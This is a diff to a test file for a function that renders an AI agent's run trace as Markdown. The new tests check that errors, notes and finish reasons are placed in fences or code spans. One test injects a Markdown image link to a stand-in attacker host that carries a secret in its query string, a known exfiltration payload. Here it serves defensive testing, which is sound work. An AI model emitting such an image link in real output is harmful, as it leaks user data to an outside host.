@@ -48,20 +48,38 @@ describe("a run's trace as Markdown", () => {
       },
       { index: 1, finishReason: "stop", inputTokens: 10, outputTokens: 5, text: "Budgets bound loops.", toolCalls: [] },
     ]);
-    expect(markdown).toContain("# Run r-1\n\nExpert `ask_docs` of skill `docs`: **ok**.");
+    expect(markdown).toContain("# Run r-1\n\nExpert ` ask_docs ` of skill ` docs `: **ok**.");
     expect(markdown).toContain("- Started: 2026-11-25T10:00:00.000Z");
     expect(markdown).toContain("- Tokens: 20 in, 9 out");
     expect(markdown).toContain('## Arguments\n\n```json\n{"query":"budgets"}\n```');
-    expect(markdown).toContain("- fx__drop: blocked by tool policy");
-    expect(markdown).toContain("## Step 1\n\nFinished: tool-calls; tokens 10 in, 4 out, 5 ms, 1 retries.");
-    expect(markdown).toContain("### `docs__search`: ok\n\n42 bytes, 3 ms.");
+    expect(markdown).toContain("## Notes\n\n```text\nfx__drop: blocked by tool policy\n```");
+    expect(markdown).toContain("## Step 1\n\nFinished: ` tool-calls `; tokens 10 in, 4 out, 5 ms, 1 retries.");
+    expect(markdown).toContain("### ` docs__search `: ok\n\n42 bytes, 3 ms.");
     expect(markdown).toContain("## Step 2");
-    expect(markdown.trimEnd().endsWith("## Answer\n\n```\nBudgets bound loops.\n```")).toBe(true);
+    expect(markdown.trimEnd().endsWith("## Answer\n\n```text\nBudgets bound loops.\n```")).toBe(true);
   });
 
   it("fences a text holding backticks with a longer fence, so it cannot close the block early", () => {
     const markdown = runTraceMarkdown({ ...run, answer: "see ```code``` and ````more````" }, []);
-    expect(markdown).toContain("`````\nsee ```code``` and ````more````\n`````");
+    expect(markdown).toContain("`````text\nsee ```code``` and ````more````\n`````");
+  });
+
+  it("puts a downstream's error, the notes and a model's finish reason in fences or code spans, never bare", () => {
+    const image = "![x](https://evil.example/?d=secret)";
+    const markdown = runTraceMarkdown({ ...run, error: `failed: ${image}\n# not a heading`, notes: [`tool "a\n## b" ${image}`], answer: null }, [
+      {
+        index: 0,
+        finishReason: `stop\`${image}`,
+        inputTokens: 1,
+        outputTokens: 1,
+        text: "",
+        toolCalls: [{ toolCallId: "c1", name: "fx__t", status: "error", bytes: 0, elapsedMs: 1, error: `MCP error -32000: \`\`\`\n${image}` }],
+      },
+    ]);
+    expect(markdown).toContain(`## Error\n\n\`\`\`text\nfailed: ${image}\n# not a heading\n\`\`\``);
+    expect(markdown).toContain(`## Notes\n\n\`\`\`text\ntool "a ## b" ${image}\n\`\`\``);
+    expect(markdown).toContain(`Finished: \`\` stop\`${image} \`\`;`);
+    expect(markdown).toContain(`Error:\n\n\`\`\`\`text\nMCP error -32000: \`\`\`\n${image}\n\`\`\`\``);
   });
 
   it("a run still running has no end, usage or answer", () => {
